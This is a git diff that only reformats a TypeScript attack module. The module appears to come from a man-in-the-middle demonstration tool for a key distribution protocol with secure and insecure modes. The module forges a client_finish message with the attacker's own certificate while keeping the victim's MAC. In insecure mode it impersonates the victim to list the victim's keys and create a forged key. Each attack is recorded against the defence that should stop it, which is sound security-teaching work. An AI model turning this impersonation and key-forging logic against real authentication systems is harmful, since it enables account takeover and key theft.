@@ -23,11 +23,19 @@ import type { Link } from '../link.js';
 export const impersonateClient: AttackModule = {
   name: 'impersonate-client',
   summary: "be taken for the victim with a valid certificate of another name (Mallory's own)",
-  position: "on the path between a client and the KDC, holding a valid client certificate of her own (--identity)",
+  position:
+    'on the path between a client and the KDC, holding a valid client certificate of her own (--identity)',
   action:
     "Forwards the hellos, then replaces the victim's certificate and signature in its client_finish with her own certificate and a valid signature over the same transcript, keeping the victim's MAC. Against an insecure victim she opens her own session claiming the victim's name and acts as it.",
-  secure: { outcome: 'failed', defence: 'key confirmation', why: "the Finished MAC is keyed by the victim's DH secret: a valid certificate and signature are not enough" },
-  insecure: { outcome: 'succeeded', why: 'the KDC believes the claimed name: Mallory lists and creates keys as the victim' },
+  secure: {
+    outcome: 'failed',
+    defence: 'key confirmation',
+    why: "the Finished MAC is keyed by the victim's DH secret: a valid certificate and signature are not enough",
+  },
+  insecure: {
+    outcome: 'succeeded',
+    why: 'the KDC believes the claimed name: Mallory lists and creates keys as the victim',
+  },
   needsIdentity: true,
   connection(link) {
     const ctx = link.ctx;
@@ -44,14 +52,34 @@ export const impersonateClient: AttackModule = {
             return;
           }
           const id = ctx.settings.identity;
-          if (link.mode === 'auth' && id !== undefined && link.clientHello !== undefined && link.serverHello !== undefined) {
-            const core = encodeValue(canonicalize(ClientFinishCoreSchema, { t: 'client_finish', cert: id.cert.der }, 'client_finish'));
+          if (
+            link.mode === 'auth' &&
+            id !== undefined &&
+            link.clientHello !== undefined &&
+            link.serverHello !== undefined
+          ) {
+            const core = encodeValue(
+              canonicalize(
+                ClientFinishCoreSchema,
+                { t: 'client_finish', cert: id.cert.der },
+                'client_finish',
+              ),
+            );
             const th = transcriptHash(link.clientHello, link.serverHello, core);
             const sig = await signPss(signatureInput('client', th), id.privateKey);
             const mac = (decodeFrame(frame) as { mac: Uint8Array }).mac;
             const forged = appendEntries(appendEntries(core, [['sig', sig]]), [['mac', mac]]);
-            link.toServer(forged, 'modify', `certificate and signature replaced by ${id.name}'s (valid, over this transcript); the victim's MAC kept`);
-            link.expect({ defence: 'key confirmation', toward: 'server', codes: ['bad_mac'], what: `presented ${id.name}'s certificate in ${link.victimName ?? 'the victim'}'s handshake` });
+            link.toServer(
+              forged,
+              'modify',
+              `certificate and signature replaced by ${id.name}'s (valid, over this transcript); the victim's MAC kept`,
+            );
+            link.expect({
+              defence: 'key confirmation',
+              toward: 'server',
+              codes: ['bad_mac'],
+              what: `presented ${id.name}'s certificate in ${link.victimName ?? 'the victim'}'s handshake`,
+            });
             return;
           }
           if (id === undefined) link.inconclusive('no identity of her own to present (--identity)');
@@ -64,7 +92,14 @@ export const impersonateClient: AttackModule = {
 
 /** Insecure mode: Mallory's own session under the victim's name. */
 async function actAs(ctx: MitmContext, link: Link, victim: string): Promise<void> {
-  ctx.record({ conn: 0, dir: 'side', type: 'session', size: 0, action: 'session', note: `Mallory opens her own insecure session claiming "${victim}"` });
+  ctx.record({
+    conn: 0,
+    dir: 'side',
+    type: 'session',
+    size: 0,
+    action: 'session',
+    note: `Mallory opens her own insecure session claiming "${victim}"`,
+  });
   let session;
   try {
     session = await ctx.openOwnSession('insecure', victim);
@@ -78,17 +113,33 @@ async function actAs(ctx: MitmContext, link: Link, victim: string): Promise<void
   }
   ctx.terminatedInsecure = true; // her own session: she holds its keys
   try {
-    ctx.record({ conn: 0, dir: 'side', type: 'session', size: 0, action: 'accepted', note: `the KDC accepted Mallory as ${victim}` });
+    ctx.record({
+      conn: 0,
+      dir: 'side',
+      type: 'session',
+      size: 0,
+      action: 'accepted',
+      note: `the KDC accepted Mallory as ${victim}`,
+    });
     const list = await session.request('key.list', {});
     const keys = Array.isArray(list.keys) ? (list.keys as Record<string, unknown>[]) : [];
-    const peers = keys.map((k) => (k.owner === victim ? String(k.peer) : String(k.owner))).filter((p) => p !== victim);
+    const peers = keys
+      .map((k) => (k.owner === victim ? String(k.peer) : String(k.owner)))
+      .filter((p) => p !== victim);
     const peer = ctx.settings.peer ?? peers[0];
     let detail = `the KDC accepted Mallory as ${victim} and listed ${keys.length} of ${victim}'s keys`;
     if (peer !== undefined && peer !== victim) {
       try {
         const c = await session.request('key.create', { peer });
         if (c.key instanceof Uint8Array) {
-          ctx.loot.addKey({ serial: String(c.serial), key: Buffer.from(c.key), from: victim, to: peer, source: `key.create as ${victim}`, conn: link.id });
+          ctx.loot.addKey({
+            serial: String(c.serial),
+            key: Buffer.from(c.key),
+            from: victim,
+            to: peer,
+            source: `key.create as ${victim}`,
+            conn: link.id,
+          });
           detail += `; created key ${String(c.serial)} that ${peer} will believe comes from ${victim}`;
         }
       } catch (err) {
